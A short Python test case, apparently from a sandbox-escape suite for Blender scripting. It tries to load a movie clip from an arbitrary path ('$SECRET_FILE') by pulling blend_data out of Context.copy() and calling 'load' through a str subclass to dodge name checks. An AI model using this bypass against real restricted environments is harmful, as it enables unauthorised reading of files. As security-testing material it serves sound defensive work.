# attack: a movie clip of any path: blend_data out of Context.copy(), .load asked for with a str that is not exactly str
# family: files
import bpy


class Word(str):
    pass


everything = bpy.context.copy()
clips = everything["blend_data"].movieclips
clip = getattr(clips, Word("load"))("$SECRET_FILE")
print("REACHED", clip, clip.path_resolve("filepath"))
